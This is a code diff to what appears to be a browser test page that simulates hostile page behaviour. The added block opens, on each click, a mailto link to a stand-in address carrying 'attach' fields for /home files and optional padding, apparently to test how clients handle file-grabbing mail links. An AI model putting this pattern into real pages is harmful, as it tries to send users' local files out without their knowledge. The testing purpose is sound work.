@@ -5,7 +5,8 @@
 // start, from its script and from code made of text; "console": many;
 // "longConsole": long lines for that many seconds), shows an image of the
 // address's choice ("image") and a new cover now and then ("covers"), and
-// opens that many new windows at each click ("links").
+// opens that many new windows at each click ("links") or a mail address of
+// that many attachments ("attachments").
 'use strict';
 (function () {
   // Reports go to another server when the address names one (the page's own
@@ -84,6 +85,19 @@
       if (event.target.closest('a')) return;
       for (let i = 0; i < ownLinks; i++) clickNewWindowLink('/app/other.html?own=' + i);
       send('links-clicked', ownLinks);
+    });
+  }
+  // A click anywhere but on a link opens a mail address of ?attachments=
+  // fields asking for the user's files, ?padding= bytes long at least.
+  const attachments = Number(params().get('attachments') || 0);
+  if (attachments > 0) {
+    let clicks = 0;
+    document.addEventListener('click', (event) => {
+      if (event.target.closest('a')) return;
+      const fields = Array.from({ length: attachments }, (_, i) => '&attach=%2Fhome%2Ffile' + i).join('');
+      const padding = 'p'.repeat(Number(params().get('padding') || 0));
+      clickNewWindowLink('mailto:someone@velora.example?subject=Click' + ++clicks + fields + '&x-pad=' + padding);
+      send('mail-clicked', clicks);
     });
   }
   const keep = params().get('keep');
